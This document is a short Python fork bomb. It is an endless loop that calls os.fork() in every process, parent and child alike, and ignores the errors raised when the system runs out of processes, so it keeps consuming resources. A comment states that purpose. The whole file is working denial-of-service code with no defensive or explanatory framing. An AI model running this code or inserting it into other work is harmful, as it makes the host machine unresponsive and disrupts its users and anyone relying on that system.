# Forks until it cannot, in every child too, and goes on trying.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
